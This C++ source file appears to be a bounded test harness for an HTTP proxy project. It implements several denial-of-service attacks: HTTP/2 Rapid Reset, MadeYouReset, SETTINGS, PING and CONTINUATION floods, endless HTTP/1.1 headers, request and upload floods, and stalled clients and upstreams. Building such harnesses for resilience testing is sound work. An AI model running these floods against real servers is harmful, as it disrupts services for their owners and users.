// Hostile clients and upstreams, one kind at a time, bounded in connections and time. See Usage.

#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <map>
#include <thread>
#include <vector>

#include "tests/attack/socket.h"
#include "tests/support/http2.h"

namespace sluice::attack {
namespace {

using namespace test::h2;

constexpr int kMaxConnections = 400;
constexpr double kMaxSeconds = 300;
constexpr auto kPauseBetweenConnections = std::chrono::milliseconds(20);
constexpr size_t kBatch = 200;  // frames in one write
constexpr size_t kUploadBytes = 10'485'760;

struct Plan {
  Address address;
  std::string host;
  double until = 0;
  double rate = 0;  // of one connection, for `requests`
  std::atomic<uint64_t> connections{0};
  std::atomic<uint64_t> sent{0};
  std::atomic<uint64_t> answers{0};
};

// The fields of GET / from that host (RFC 7541 section 6.2.2).
std::string RequestFields(const std::string& host) {
  std::string fields = "\x82\x86\x84\x01";
  fields.push_back(static_cast<char>(host.size()));
  return fields.append(host);
}

// Sends what `make` says until the peer ends the connection, then opens another one.
void Flood(Plan& plan, const std::function<std::string(uint32_t turn)>& make, const std::string& opening) {
  while (Now() < plan.until) {
    const int fd = Connect(plan.address);
    if (fd >= 0) {
      ++plan.connections;
      bool open = SendAll(fd, opening);
      std::string answers;
      for (uint32_t turn = 0; open && Now() < plan.until; ++turn) {
        open = SendAll(fd, make(turn));
        plan.sent += kBatch;
        while (Receive(fd, answers, 0)) answers.clear();
      }
      close(fd);
    }
    std::this_thread::sleep_for(kPauseBetweenConnections);
  }
}

std::string Batch(const std::function<std::string(uint32_t)>& frame, uint32_t turn) {
  std::string bytes;
  for (uint32_t i = 0; i < kBatch; ++i) bytes.append(frame(turn * kBatch + i));
  return bytes;
}

void FloodFrames(Plan& plan, const std::function<std::string(uint32_t)>& frame, std::string opening = kPreface) {
  Flood(
      plan, [&frame](uint32_t turn) { return Batch(frame, turn); }, opening);
}

void RapidReset(Plan& plan) {
  const std::string fields = RequestFields(plan.host);
  FloodFrames(plan, [&](uint32_t i) {
    std::string frames = Frame(kHeaders, kEndStream | kEndHeaders, 2 * i + 1, fields);
    return frames.append(Frame(kReset, 0, 2 * i + 1, Number(8)));
  });
}

// Makes the server reset its own streams: a window of 0 is an error of the stream.
void MadeYouReset(Plan& plan) {
  const std::string fields = RequestFields(plan.host);
  FloodFrames(plan, [&](uint32_t i) {
    std::string frames = Frame(kHeaders, kEndStream | kEndHeaders, 2 * i + 1, fields);
    return frames.append(Frame(kWindowUpdate, 0, 2 * i + 1, Number(0)));
  });
}

void Settings(Plan& plan) {
  FloodFrames(plan, [](uint32_t) { return Frame(kSettings, 0, 0, ""); });
}

void Ping(Plan& plan) {
  FloodFrames(plan, [](uint32_t) { return Frame(kPing, 0, 0, "pingpong"); });
}

void Continuation(Plan& plan) {
  std::string opening = kPreface;
  opening.append(Frame(kHeaders, kEndStream, 1, RequestFields(plan.host)));
  FloodFrames(
      plan, [](uint32_t) { return Frame(kContinuation, 0, 1, ""); }, opening);
}

void EmptyData(Plan& plan) {
  std::string opening = kPreface;
  opening.append(Frame(kHeaders, kEndHeaders, 1, RequestFields(plan.host)));
  FloodFrames(
      plan, [](uint32_t) { return Frame(kData, 0, 1, ""); }, opening);
}

// Fields without end, of HTTP/1.1.
void Fields(Plan& plan) {
  FloodFrames(
      plan, [](uint32_t i) { return "X-" + std::to_string(i) + ": 0123456789\r\n"; },
      "GET / HTTP/1.1\r\nHost: " + plan.host + "\r\n");
}

// As many requests a second as `rate`, answers read and counted.
void Requests(Plan& plan) {
  const std::string request = "GET /anything HTTP/1.1\r\nHost: " + plan.host + "\r\n\r\n";
  int fd = -1;
  const double start = Now();
  for (uint64_t i = 0; Now() < plan.until; ++i) {
    const double wait = start + static_cast<double>(i) / plan.rate - Now();
    if (wait > 0) std::this_thread::sleep_for(std::chrono::duration<double>(wait));
    if (fd < 0) fd = Connect(plan.address);
    std::string answer;
    if (fd >= 0 && SendAll(fd, request) && Receive(fd, answer, 5000)) {
      ++plan.answers;
    } else if (fd >= 0) {
      close(fd);
      fd = -1;
    }
    ++plan.sent;
  }
  if (fd >= 0) close(fd);
}

// Uploads of the largest body a gateway takes, one after the other.
void Uploads(Plan& plan) {
  const std::string head = "POST /anything HTTP/1.1\r\nHost: " + plan.host +
                           "\r\nContent-Length: " + std::to_string(kUploadBytes) + "\r\nConnection: close\r\n\r\n";
  const std::string piece(65536, 'x');
  while (Now() < plan.until) {
    const int fd = Connect(plan.address);
    bool open = fd >= 0 && SendAll(fd, head);
    for (size_t sent = 0; open && sent < kUploadBytes && Now() < plan.until; sent += piece.size()) {
      open = SendAll(fd, piece, static_cast<int>((plan.until - Now()) * 1000));
    }
    plan.sent += open ? 1 : 0;
    std::string answer;
    if (open && Receive(fd, answer, 10'000)) ++plan.answers;
    if (fd >= 0) close(fd);
    std::this_thread::sleep_for(kPauseBetweenConnections);
  }
}

// Asks once and waits: its upstream never answers.
void Patient(Plan& plan) {
  const std::string request = "GET /anything HTTP/1.1\r\nHost: " + plan.host + "\r\n\r\n";
  while (Now() < plan.until) {
    const int fd = Connect(plan.address);
    std::string answer;
    if (fd >= 0 && SendAll(fd, request)) {
      ++plan.sent;
      while (Now() < plan.until && answer.empty()) Receive(fd, answer, 200);
      if (!answer.empty()) ++plan.answers;
    }
    if (fd >= 0) close(fd);
    std::this_thread::sleep_for(kPauseBetweenConnections * 10);
  }
}

// An upstream that accepts and never reads nor answers.
void DeadUpstream(Plan& plan) {
  const int listener = Listen(plan.address);
  std::vector<int> held;
  while (Now() < plan.until) {
    std::this_thread::sleep_for(kPauseBetweenConnections);
    while (held.size() < 10'000) {
      const int fd = AcceptNow(listener);
      if (fd < 0) break;
      held.push_back(fd);
    }
  }
  for (const int fd : held) close(fd);
  close(listener);
}

const std::map<std::string, void (*)(Plan&)> kKinds = {
    {"rapid-reset", RapidReset},
    {"made-you-reset", MadeYouReset},
    {"settings", Settings},
    {"ping", Ping},
    {"continuation", Continuation},
    {"empty-data", EmptyData},
    {"fields", Fields},
    {"requests", Requests},
    {"uploads", Uploads},
    {"patient", Patient},
    {"dead-upstream", DeadUpstream},
};

int Usage() {
  std::fprintf(stderr,
               "usage: attack-attacker KIND ADDRESS:PORT HOST CONNECTIONS SECONDS [REQUESTS_PER_SECOND]\nkinds:");
  for (const auto& [name, run] : kKinds) std::fprintf(stderr, " %s", name.c_str());
  std::fprintf(stderr, "\n");
  return 64;
}

}  // namespace
}  // namespace sluice::attack

int main(int argc, char** argv) {
  using namespace sluice::attack;
  if (argc < 6 || argc > 7 || !kKinds.contains(argv[1])) return Usage();
  Plan plan;
  plan.address = ParseAddress(argv[2]);
  plan.host = argv[3];
  const int connections = std::atoi(argv[4]);
  const double seconds = std::atof(argv[5]);
  if (connections < 1 || connections > kMaxConnections || seconds <= 0 || seconds > kMaxSeconds) return Usage();
  plan.rate = argc == 7 ? std::atof(argv[6]) / connections : 100;
  plan.until = Now() + seconds;
  std::vector<std::thread> threads;
  for (int i = 0; i < connections; ++i) threads.emplace_back(kKinds.at(argv[1]), std::ref(plan));
  for (std::thread& thread : threads) thread.join();
  std::printf("{\"kind\":\"%s\",\"connections\":%llu,\"sent\":%llu,\"answers\":%llu}\n", argv[1],
              static_cast<unsigned long long>(plan.connections.load()),
              static_cast<unsigned long long>(plan.sent.load()), static_cast<unsigned long long>(plan.answers.load()));
  return 0;
}
